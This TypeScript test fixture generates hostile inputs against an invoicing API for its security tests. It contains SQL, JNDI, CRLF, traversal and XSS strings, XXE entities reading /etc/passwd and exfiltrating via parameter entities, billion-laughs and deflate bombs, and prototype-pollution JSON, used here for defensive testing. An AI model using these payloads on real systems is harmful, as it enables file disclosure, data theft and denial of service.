import { deflateSync } from 'node:zlib';
import { AFRelationship, PDFDocument } from 'pdf-lib';
import { billionLaughsLines, prng } from './hostile-input';

/**
 * The hostile-input battery: documents, JSON bodies, headers and parameters a hostile caller
 * sends, generated (not stored) so sizes can be large. Shared by the hostile e2e suite and the
 * unit tests of the pieces that defend against them.
 */
export interface HostileCase {
  name: string;
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  /** Request target exactly as it goes on the wire (may be deliberately malformed). */
  target: string;
  /** Header lines; a name given here replaces the default header of that name. Values go out as UTF-8 bytes, unchecked. */
  headers?: Array<[string, string]>;
  body?: Buffer;
  /** A submitted document: a 202 means a run that must end in a verdict. */
  submits?: boolean;
}

export interface HostileContext {
  /** A valid UBL invoice (the base of the mutated documents). */
  ubl: Buffer;
  /** A valid CII invoice (embedded in the Factur-X PDFs). */
  cii: Buffer;
  /** An invoice that exists, for the path-parameter cases. */
  invoiceId: string;
  /** A tenant the API-body cases may modify. */
  tenantId: string;
  pdfs: HostilePdf[];
}

export interface HostilePdf {
  name: string;
  bytes: Buffer;
}

/** Strings that go into every header and parameter. */
export const INJECTIONS: Array<[name: string, value: string]> = [
  ['sql', "' OR 1=1 --"],
  ['sql-union', '1 UNION SELECT secret FROM api_keys--'],
  ['jndi', '${jndi:ldap://x}'],
  ['crlf', 'a\r\nX-Injected: 1'],
  ['nul', 'a\u0000b'],
  ['rtl-override', '\u202Egnp.exe'],
  ['traversal', '../../etc/passwd'],
  ['long-10k', 'A'.repeat(10 * 1024)],
  ['emoji', '\u{1F600}\u{1F4A5}'],
  ['format-string', '%s%s%n%x%00'],
  ['script', '<script>alert(1)</script>'],
  ['nosql', '{"$gt":""}'],
];

/** Numbers and number-like strings that break naive parsing. */
export const ODD_NUMBERS = ['1e400', '-1e400', '9'.repeat(1000), '-0', 'NaN', 'Infinity', '2147483648', '9223372036854775808', '1.5', '0x1F', '-1', ''];

const UBL_NS = 'urn:oasis:names:specification:ubl:schema:xsd:Invoice-2';
const xml = (text: string) => Buffer.from(text, 'utf8');

/** Element nesting `depth` levels deep, closed or not. */
function deepXml(depth: number, closed: boolean): Buffer {
  return xml(`<Invoice xmlns="${UBL_NS}">${'<a>'.repeat(depth)}x${closed ? '</a>'.repeat(depth) : ''}</Invoice>`);
}

/** The UBL invoice with every amount replaced by `amount`. */
function withAmounts(ubl: Buffer, amount: string): Buffer {
  return xml(ubl.toString('utf8').replace(/(<cbc:[A-Za-z]*Amount[^>]*>)[^<]*(<\/cbc:[A-Za-z]*Amount>)/g, `$1${amount}$2`));
}

/** The UBL invoice with its ID (BT-1) replaced by raw `text` (not escaped on purpose). */
function withId(ubl: Buffer, text: string): Buffer {
  return xml(ubl.toString('utf8').replace(/<cbc:ID>[^<]*<\/cbc:ID>/, `<cbc:ID>${text}</cbc:ID>`));
}

/** The UBL invoice with a DOCTYPE inserted after the XML declaration and `&name;` as its ID. */
function withDoctype(ubl: Buffer, doctype: string, reference: string): Buffer {
  const text = ubl.toString('utf8').replace(/^(<\?xml[^>]*\?>)?/, (decl) => `${decl}\n${doctype}\n`);
  return withId(xml(text), reference);
}

/** XML documents: XXE, entity expansion, parser bombs, deep nesting, odd numbers, injections, broken encodings. */
export function hostileXmlDocuments(ubl: Buffer): Array<[name: string, body: Buffer]> {
  const laughs = billionLaughsLines().join('\n');
  const quadraticEntity = 'a'.repeat(100_000);
  const docs: Array<[string, Buffer]> = [
    ['xxe-file', withDoctype(ubl, '<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;')],
    ['xxe-http', withDoctype(ubl, '<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "http://127.0.0.1:1/secret">]>', '&xxe;')],
    ['xxe-parameter-entity', withDoctype(ubl, '<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd"> %remote; %payload;]>', '&exfil;')],
    ['xxe-parameter-file', withDoctype(ubl, '<!DOCTYPE Invoice [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % wrap "<!ENTITY send SYSTEM \'http://127.0.0.1:1/?%file;\'>"> %wrap;]>', '&send;')],
    ['xxe-external-dtd', withDoctype(ubl, '<!DOCTYPE Invoice SYSTEM "file:///etc/passwd">', 'X-1')],
    ['xxe-public-dtd', withDoctype(ubl, '<!DOCTYPE Invoice PUBLIC "-//X//Y" "http://127.0.0.1:1/x.dtd">', 'X-1')],
    ['xxe-php-filter', withDoctype(ubl, '<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>', '&xxe;')],
    ['xxe-xinclude', withId(ubl, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')],
    ['billion-laughs', xml(laughs)],
    ['billion-laughs-in-ubl', withDoctype(ubl, billionLaughsLines().slice(1, -1).join('\n').replace('lolz', 'Invoice'), '&lol9;')],
    ['quadratic-blowup', xml(`<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY a "${quadraticEntity}">]><Invoice xmlns="${UBL_NS}">${'&a;'.repeat(50_000)}</Invoice>`)],
    ['undeclared-entity-flood', xml(`<Invoice xmlns="${UBL_NS}">${'&x;'.repeat(200_000)}</Invoice>`)],
    ['char-reference-flood', xml(`<Invoice xmlns="${UBL_NS}">${'&#x41;'.repeat(200_000)}</Invoice>`)],
    ['invalid-char-reference', withId(ubl, '&#0;&#xD800;&#x110000;')],
    // The regex bomb and its cousins: unclosed constructs that make backtracking parsers quadratic.
    ['regex-bomb-open-tags', xml('<Invoice>' + '<ID '.repeat(100_000))],
    ['unclosed-attribute-values', xml('<Invoice ' + 'a="'.repeat(100_000))],
    ['unclosed-long-attribute', xml(`<Invoice xmlns="${UBL_NS}" a="${'x'.repeat(2_000_000)}`)],
    ['long-attribute-list', xml(`<Invoice xmlns="${UBL_NS}" ${Array.from({ length: 50_000 }, (_, i) => `a${i}="1"`).join(' ')}></Invoice>`)],
    ['duplicate-attributes', xml(`<Invoice xmlns="${UBL_NS}" ${'a="1" '.repeat(50_000)}></Invoice>`)],
    ['namespace-declaration-flood', xml(`<Invoice xmlns="${UBL_NS}" ${Array.from({ length: 20_000 }, (_, i) => `xmlns:p${i}="urn:x:${i}"`).join(' ')}></Invoice>`)],
    ['unclosed-comments', xml('<Invoice>' + '<!--'.repeat(100_000))],
    ['comment-flood', xml(`<Invoice xmlns="${UBL_NS}">${'<!-- x -->'.repeat(100_000)}</Invoice>`)],
    ['unclosed-comment-long', xml(`<Invoice xmlns="${UBL_NS}"><!--${'-'.repeat(1_000_000)}`)],
    ['unclosed-cdata', xml(`<Invoice xmlns="${UBL_NS}"><![CDATA[${']'.repeat(1_000_000)}`)],
    ['cdata-flood', xml(`<Invoice xmlns="${UBL_NS}">${'<![CDATA[x]]>'.repeat(100_000)}</Invoice>`)],
    ['processing-instruction-flood', xml(`<Invoice xmlns="${UBL_NS}">${'<?x y?>'.repeat(100_000)}</Invoice>`)],
    ['unclosed-processing-instructions', xml('<Invoice>' + '<?x '.repeat(100_000))],
    ['angle-bracket-flood', xml('<'.repeat(1_000_000))],
    ['close-tag-flood', xml(`<Invoice xmlns="${UBL_NS}">${'</'.repeat(100_000)}`)],
    ['prefix-flood', xml('<Invoice>' + '<a:'.repeat(100_000))],
    ['ampersand-flood', xml(`<Invoice xmlns="${UBL_NS}">${'&'.repeat(1_000_000)}</Invoice>`)],
    ['deep-nesting-10k', deepXml(10_000, true)],
    ['deep-nesting-100k', deepXml(100_000, true)],
    ['deep-nesting-100k-unclosed', deepXml(100_000, false)],
    ['deep-self-closing-siblings', xml(`<Invoice xmlns="${UBL_NS}">${'<a/>'.repeat(300_000)}</Invoice>`)],
    ['empty-body-xml', Buffer.alloc(0)],
    ['whitespace-only', xml(' \n\t '.repeat(1000))],
    ['bom-only', Buffer.from([0xef, 0xbb, 0xbf])],
    ['declaration-only', xml('<?xml version="1.0"?>')],
    ['utf16-bom-garbage', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<Invoice/>', 'utf16le'), Buffer.from([0xd8, 0x00])])],
    ['declared-ebcdic', xml(ubl.toString('utf8').replace(/encoding="UTF-8"/i, 'encoding="EBCDIC-XYZ"'))],
    ['invalid-utf8', Buffer.concat([xml(`<Invoice xmlns="${UBL_NS}"><ID>`), Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80]), xml('</ID></Invoice>')])],
    ['nul-bytes', Buffer.concat([ubl.subarray(0, 400), Buffer.alloc(1000), ubl.subarray(400)])],
    ['binary-garbage', randomBytes(7, 200_000)],
    ['html-root', xml('<html><body>not an invoice</body></html>')],
    ['invoice-without-namespace', xml('<Invoice><ID>1</ID></Invoice>')],
    ['mismatched-tags', xml(`<Invoice xmlns="${UBL_NS}"><a><b></a></b></Invoice>`)],
    ['truncated-10', ubl.subarray(0, Math.floor(ubl.length * 0.1))],
    ['truncated-50', ubl.subarray(0, Math.floor(ubl.length * 0.5))],
    ['truncated-99', ubl.subarray(0, ubl.length - 3)],
    ['two-roots', Buffer.concat([ubl, ubl])],
  ];
  for (const amount of ['1e400', '9'.repeat(1000), `${'1'.repeat(1000)}.${'9'.repeat(1000)}`, '-0', 'NaN', 'Infinity', '0x1F', '-' + '9'.repeat(1000), '1,000.00', '']) {
    docs.push([`amounts-${amount.slice(0, 12) || 'empty'}-${amount.length}`, withAmounts(ubl, amount)]);
  }
  for (const [name, value] of INJECTIONS) {
    docs.push([`id-${name}`, withId(ubl, value.replace(/[<&]/g, (c) => (c === '<' ? '&lt;' : '&amp;')))]);
  }
  return docs;
}

/** Canonical-JSON documents: nesting, prototype pollution, odd numbers, broken JSON. */
export function hostileJsonDocuments(): Array<[name: string, body: Buffer]> {
  const text = (s: string) => Buffer.from(s, 'utf8');
  return [
    ['json-deep-objects-10k', text('{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000))],
    ['json-deep-arrays-100k', text('['.repeat(100_000) + ']'.repeat(100_000))],
    ['json-deep-unclosed-100k', text('['.repeat(100_000))],
    ['json-proto-pollution', text('{"__proto__":{"polluted":true},"invoice_number":"X"}')],
    ['json-constructor-pollution', text('{"constructor":{"prototype":{"polluted":true}}}')],
    ['json-array', text('[]')],
    ['json-null', text('null')],
    ['json-string', text('"invoice"')],
    ['json-number-1e400', text('1e400')],
    ['json-true', text('true')],
    ['json-empty-object', text('{}')],
    ['json-broken', text('{"invoice_number":')],
    ['json-nul-in-string', text('{"invoice_number":"a\\u0000b"}')],
    ['json-nul-in-invoice-number', text('{"invoiceNumber":"INV\\u0000-1","\\u0000":"x"}')],
    ['json-lone-surrogate', text('{"invoice_number":"\\ud800"}')],
    ['json-huge-number', text(`{"invoice_number":"X","totals":{"payable":${'9'.repeat(1000)}}}`)],
    ['json-many-keys', text(`{${Array.from({ length: 100_000 }, (_, i) => `"k${i}":1`).join(',')}}`)],
    ['json-long-key', text(`{"${'k'.repeat(1_000_000)}":1}`)],
    ['json-empty-body', Buffer.alloc(0)],
    ['json-bom', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text('{}')])],
  ];
}

function randomBytes(seed: number, length: number): Buffer {
  const rand = prng(seed);
  const out = Buffer.alloc(length);
  for (let i = 0; i < length; i++) out[i] = Math.floor(rand() * 256);
  return out;
}

/** A minimal PDF around the given object bodies, with a correct (or deliberately wrong) xref table. */
function rawPdf(objects: string[], options: { rootRef?: string; brokenXref?: boolean } = {}): Buffer {
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(options.brokenXref ? offset * 7 + 3 : offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root ${options.rootRef ?? '1 0 R'} >>\nstartxref\n${options.brokenXref ? xrefAt + 999 : xrefAt}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** An embedded-file PDF whose name tree's Kids point back at itself, many times over. */
function cyclicNameTreePdf(): Buffer {
  const kids = Array.from({ length: 500 }, () => '3 0 R').join(' ');
  return rawPdf(['<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>', '<< /Type /Pages /Kids [] /Count 0 >>', `<< /Kids [${kids}] >>`]);
}

/** A Factur-X PDF whose embedded invoice stream is `stream` (already encoded) with the given filter. */
function embeddedStreamPdf(stream: Buffer, filter: string): Buffer {
  const head = rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>',
    '<< /Type /Pages /Kids [] /Count 0 >>',
    '<< /Names [(factur-x.xml) 4 0 R] >>',
    '<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /EF << /F 5 0 R >> >>',
    `<< /Type /EmbeddedFile /Filter ${filter} /Length ${stream.length} >>\nstream\n${stream.toString('latin1')}\nendstream`,
  ]);
  return head;
}

async function facturX(attachments: Array<{ name: string; bytes: Uint8Array }>): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText('Invoice', { x: 50, y: 780 });
  for (const a of attachments) await pdf.attach(a.bytes, a.name, { mimeType: 'text/xml', afRelationship: AFRelationship.Alternative });
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

/** Malformed and huge PDFs (the body limit is 5 MB by default). */
export async function hostilePdfs(cii: Buffer): Promise<HostilePdf[]> {
  const valid = await facturX([{ name: 'factur-x.xml', bytes: cii }]);
  const nested = (open: string, close: string, depth: number) => rawPdf([`<< /Type /Catalog /X ${open.repeat(depth)}${close.repeat(depth)} >>`]);
  return [
    { name: 'pdf-garbage-after-header', bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(11, 100_000)]) },
    { name: 'pdf-header-only', bytes: Buffer.from('%PDF-1.7') },
    { name: 'pdf-header-after-junk', bytes: Buffer.concat([randomBytes(13, 900), valid]) },
    { name: 'pdf-nested-arrays-100k', bytes: nested('[', ']', 100_000) },
    { name: 'pdf-nested-arrays-100k-unclosed', bytes: rawPdf([`<< /Type /Catalog /X ${'['.repeat(100_000)} >>`]) },
    { name: 'pdf-nested-dicts-50k', bytes: nested('<< /A ', '>>', 50_000) },
    { name: 'pdf-bad-xref', bytes: rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { brokenXref: true }) },
    { name: 'pdf-root-not-a-dict', bytes: rawPdf(['[1 2 3]']) },
    { name: 'pdf-root-missing', bytes: rawPdf(['<< /Type /Catalog >>'], { rootRef: '99 0 R' }) },
    { name: 'pdf-truncated-half', bytes: valid.subarray(0, Math.floor(valid.length / 2)) },
    { name: 'pdf-truncated-end', bytes: valid.subarray(0, valid.length - 40) },
    { name: 'pdf-bit-flipped', bytes: flipBits(valid, 17, 40) },
    // Incompressible, so it stays about 4 MB: under the 5 MB body limit.
    { name: 'pdf-huge-4mb', bytes: await facturX([{ name: 'padding.bin', bytes: randomBytes(23, 4 * 1024 * 1024) }, { name: 'factur-x.xml', bytes: cii }]) },
    { name: 'pdf-no-invoice', bytes: await facturX([{ name: 'readme.txt', bytes: Buffer.from('hello') }]) },
    { name: 'pdf-billion-laughs-inside', bytes: await facturX([{ name: 'factur-x.xml', bytes: Buffer.from(billionLaughsLines().join('\n')) }]) },
    { name: 'pdf-regex-bomb-inside', bytes: await facturX([{ name: 'factur-x.xml', bytes: Buffer.from('<Invoice>' + '<ID '.repeat(100_000)) }]) },
    { name: 'pdf-deflate-bomb', bytes: embeddedStreamPdf(deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }), '/FlateDecode') },
    { name: 'pdf-corrupt-deflate', bytes: embeddedStreamPdf(randomBytes(19, 5000), '/FlateDecode') },
    { name: 'pdf-unsupported-filter', bytes: embeddedStreamPdf(Buffer.from('xyz'), '/LZWDecode') },
    { name: 'pdf-cyclic-name-tree', bytes: cyclicNameTreePdf() },
    { name: 'pdf-many-attachments', bytes: await facturX(Array.from({ length: 100 }, (_, i) => ({ name: `file${i}.txt`, bytes: Buffer.from(`#${i}`) }))) },
  ];
}

function flipBits(original: Buffer, seed: number, flips: number): Buffer {
  const rand = prng(seed);
  const out = Buffer.from(original);
  for (let f = 0; f < flips; f++) out[Math.floor(rand() * out.length)] ^= 1 << Math.floor(rand() * 8);
  return out;
}

/** Request bodies of every JSON API: a valid base, then each field given wrong types. */
interface JsonApi {
  method: HostileCase['method'];
  target: string;
  base: Record<string, unknown>;
}

function jsonApis(tenantId: string): JsonApi[] {
  const selection = { stage_id: 'parse', module_id: 'einvoice-xml', settings: {} };
  const trigger = { error: true, timeout_ms: 5000, circuit_open: { consecutive_failures: 5, half_open_after_ms: 30000 }, module_unavailable: true };
  const actions = { retry: { attempts: 1, backoff_ms: 0 }, on_failure: 'use_fallback', mark_for_review: true };
  return [
    { method: 'POST', target: '/api/v1/configurations', base: { summary: 'hostile', based_on_version: 1, selections: [selection] } },
    { method: 'POST', target: '/api/v1/configurations/validate', base: { summary: 'hostile', based_on_version: 1, selections: [selection] } },
    { method: 'POST', target: '/api/v1/configurations/rollback', base: { to_version: 1 } },
    { method: 'PUT', target: '/api/v1/fallback-policies/parse', base: { fallback_module_id: 'lenient-xml', trigger_conditions: trigger, actions } },
    { method: 'PATCH', target: '/api/v1/modules/lenient-xml', base: { status: 'available' } },
    { method: 'POST', target: '/api/v1/admin/tenants', base: { tenant_id: 'hostile-new', name: 'Hostile', config: {} } },
    { method: 'PATCH', target: `/api/v1/admin/tenants/${tenantId}`, base: { name: 'Hostile', config: {} } },
    { method: 'POST', target: '/api/v1/admin/api-keys', base: { name: 'hostile', roles: ['auditor'], tenant_id: tenantId, expires_in_days: 1 } },
    { method: 'POST', target: '/api/v1/admin/certificates', base: { domains: ['hostile.example'] } },
  ];
}

/** JSON texts of wrong types (raw, so 1e400 and -0 reach the server as written). */
const WRONG_TYPES = ['"x"', '1', '1e400', '-0', '1.5', '2147483648', 'true', 'null', '[]', '{}', '[[[["deep"]]]]', '"NaN"'];

const WHOLE_BODIES = ['"string"', '1', 'null', 'true', '[]', '[{}]', '{', '{"a":' + '['.repeat(5000) + ']'.repeat(5000) + '}', ''];

/** The base body as JSON text with one field's value replaced by a raw JSON text. */
function rawJson(base: Record<string, unknown>, field: string, value: string): string {
  const marker = '\u0000HOSTILE\u0000';
  return JSON.stringify({ ...base, [field]: marker }).replace(JSON.stringify(marker), () => value);
}

function apiBodyCases(tenantId: string): HostileCase[] {
  const json: Array<[string, string]> = [['content-type', 'application/json']];
  const cases: HostileCase[] = [];
  for (const api of jsonApis(tenantId)) {
    for (const field of Object.keys(api.base)) {
      for (const value of WRONG_TYPES) {
        cases.push({ name: `${api.method} ${api.target} ${field}=${value}`, method: api.method, target: api.target, headers: json, body: Buffer.from(rawJson(api.base, field, value)) });
      }
    }
    for (const body of WHOLE_BODIES) {
      cases.push({ name: `${api.method} ${api.target} body ${body.slice(0, 12) || '(empty)'}`, method: api.method, target: api.target, headers: json, body: Buffer.from(body) });
    }
  }
  // Nested fields of the configuration and the fallback policy.
  for (const value of WRONG_TYPES) {
    const selections = `[{"stage_id":${value},"module_id":${value},"settings":${value}}]`;
    cases.push({ name: `POST configurations selections[0].*=${value}`, method: 'POST', target: '/api/v1/configurations', headers: json, body: Buffer.from(`{"selections":${selections}}`) });
    const policy = `{"trigger_conditions":{"error":${value},"timeout_ms":${value},"circuit_open":${value},"module_unavailable":${value}},"actions":{"retry":${value},"on_failure":${value},"mark_for_review":${value}}}`;
    cases.push({ name: `PUT fallback-policies nested=${value}`, method: 'PUT', target: '/api/v1/fallback-policies/parse', headers: json, body: Buffer.from(policy) });
  }
  const deepSettings = '{"a":'.repeat(20_000) + '1' + '}'.repeat(20_000);
  cases.push({ name: 'POST configurations settings nested 20k', method: 'POST', target: '/api/v1/configurations', headers: json, body: Buffer.from(`{"selections":[{"stage_id":"parse","module_id":"einvoice-xml","settings":${deepSettings}}]}`) });
  cases.push({ name: 'PUT fallback-policies {}', method: 'PUT', target: '/api/v1/fallback-policies/parse', headers: json, body: Buffer.from('{}') });
  return cases;
}

/** Every injection string in every header of the main routes. */
function headerCases(ubl: Buffer): HostileCase[] {
  const routes: Array<Pick<HostileCase, 'method' | 'target' | 'body' | 'submits'> & { contentType?: string }> = [
    { method: 'GET', target: '/api/v1/invoices' },
    { method: 'POST', target: '/api/v1/invoices', body: ubl, submits: true, contentType: 'application/xml' },
    { method: 'POST', target: '/api/v1/validate', body: ubl, contentType: 'application/xml' },
    { method: 'GET', target: '/api/v1/configurations' },
  ];
  const headers = ['x-tenant-id', 'x-request-id', 'idempotency-key', 'content-type', 'accept', 'authorization'];
  const cases: HostileCase[] = [];
  for (const route of routes) {
    for (const header of headers) {
      for (const [name, value] of INJECTIONS) {
        const lines: Array<[string, string]> = route.contentType ? [['content-type', route.contentType]] : [];
        const hostile: Array<[string, string]> = [...lines.filter(([h]) => h !== header), [header, header === 'authorization' ? `Bearer ${value}` : value]];
        cases.push({ name: `${route.method} ${route.target} ${header}: ${name}`, method: route.method, target: route.target, body: route.body, submits: route.submits, headers: hostile });
      }
    }
  }
  return cases;
}

/** Every injection string (and odd number) in every path and query parameter. */
function parameterCases(invoiceId: string): HostileCase[] {
  const paths: Array<[HostileCase['method'], (p: string) => string]> = [
    ['GET', (p) => `/api/v1/invoices/${p}`],
    ['POST', (p) => `/api/v1/invoices/${p}/reprocess`],
    ['GET', (p) => `/api/v1/configurations/${p}`],
    ['GET', (p) => `/api/v1/configurations/1/diff/${p}`],
    ['GET', (p) => `/api/v1/configurations/activations/${p}`],
    ['GET', (p) => `/api/v1/admin/tenants/${p}`],
    ['GET', (p) => `/api/v1/admin/certificates/${p}`],
    ['DELETE', (p) => `/api/v1/admin/api-keys/${p}`],
    ['POST', (p) => `/api/v1/admin/scheduler/jobs/${p}/trigger`],
    ['POST', (p) => `/api/v1/configurations/${p}/validate`],
  ];
  const queries = [
    '/api/v1/invoices?limit=',
    '/api/v1/invoices?cursor=',
    '/api/v1/invoices?status=',
    `/api/v1/invoices?limit=1&cursor=${invoiceId}&q=`,
    '/api/v1/configurations?limit=',
    '/api/v1/configurations?cursor=',
    '/api/v1/configurations?status=',
    '/api/v1/configuration-events?cursor=',
    '/api/v1/configuration-events?from=',
    '/api/v1/configuration-events?config_id=',
    '/api/v1/admin/tenants?after=',
    '/api/v1/admin/tenants?limit=',
    '/api/v1/modules?stage=',
    '/api/v1/admin/lifecycle?limit=',
    '/api/v1/invoices?wait=',
  ];
  const values: Array<[string, string]> = [...INJECTIONS, ...ODD_NUMBERS.map((n) => [`number-${n.slice(0, 12) || 'empty'}`, n] as [string, string])];
  const cases: HostileCase[] = [];
  for (const [method, path] of paths) {
    for (const [name, value] of values) cases.push({ name: `${method} ${path(':param')} = ${name}`, method, target: path(encodeURIComponent(value)) });
    cases.push({ name: `${method} ${path(':param')} raw traversal`, method, target: path('../../../../etc/passwd') });
  }
  for (const query of queries) {
    for (const [name, value] of values) {
      const method = query.includes('wait=') ? 'POST' : 'GET';
      cases.push({ name: `${method} ${query} ${name}`, method, target: query + encodeURIComponent(value) });
    }
    cases.push({ name: `GET ${query} repeated`, method: 'GET', target: query + '1&' + query.split('?')[1] + '2' });
  }
  // Beyond Node's header limit (431) and the URL limit (414): answered before any route exists.
  cases.push({ name: 'GET 100 KB URL', method: 'GET', target: `/api/v1/invoices?q=${'a'.repeat(100_000)}` });
  cases.push({ name: 'GET 9 KB URL', method: 'GET', target: `/api/v1/invoices?q=${'a'.repeat(9_000)}` });
  cases.push({ name: 'GET 20 KB header', method: 'GET', target: '/api/v1/invoices', headers: [['x-padding', 'a'.repeat(20_000)]] });
  cases.push({ name: 'GET 200 small headers', method: 'GET', target: '/api/v1/invoices', headers: Array.from({ length: 200 }, (_, i): [string, string] => [`x-h${i}`, 'a'.repeat(100)]) });
  // Raw bytes the URL may not carry, and malformed percent-encoding.
  for (const raw of ['/api/v1/invoices/%', '/api/v1/invoices/%zz', '/api/v1/invoices?limit=%', '/api/v1/%00', '/api/v1/invoices/\u202e', '/api/v1/invoices/a b', '//api//v1//invoices', '/api/v1/invoices#frag', '*', 'http://evil.example/api/v1/invoices']) {
    cases.push({ name: `GET raw target ${JSON.stringify(raw).slice(0, 40)}`, method: 'GET', target: raw });
  }
  return cases;
}

/** Documents in each media type to the two document routes. */
function documentCases(ctx: HostileContext): HostileCase[] {
  const cases: HostileCase[] = [];
  const send = (name: string, contentType: string, body: Buffer) => {
    cases.push({ name: `submit ${name}`, method: 'POST', target: '/api/v1/invoices', headers: [['content-type', contentType]], body, submits: true });
    cases.push({ name: `validate ${name}`, method: 'POST', target: '/api/v1/validate', headers: [['content-type', contentType]], body });
  };
  for (const [name, body] of hostileXmlDocuments(ctx.ubl)) send(name, 'application/xml', body);
  for (const [name, body] of hostileJsonDocuments()) send(name, 'application/json', body);
  for (const pdf of ctx.pdfs) send(pdf.name, 'application/pdf', pdf.bytes);
  // Media-type confusion: each kind of document under another's content type.
  send('pdf-as-xml', 'application/xml', ctx.pdfs[0].bytes);
  send('xml-as-json', 'application/json', ctx.ubl);
  send('xml-as-pdf', 'application/pdf', ctx.ubl);
  send('xml-as-text-plain', 'text/plain', ctx.ubl);
  send('xml-as-multipart', 'multipart/form-data; boundary=x', ctx.ubl);
  send('xml-as-urlencoded', 'application/x-www-form-urlencoded', ctx.ubl);
  send('xml-charset-bogus', 'application/xml; charset=x-bogus', ctx.ubl);
  return cases;
}

export function hostileCases(ctx: HostileContext): HostileCase[] {
  return [...documentCases(ctx), ...apiBodyCases(ctx.tenantId), ...headerCases(ctx.ubl), ...parameterCases(ctx.invoiceId)];
}
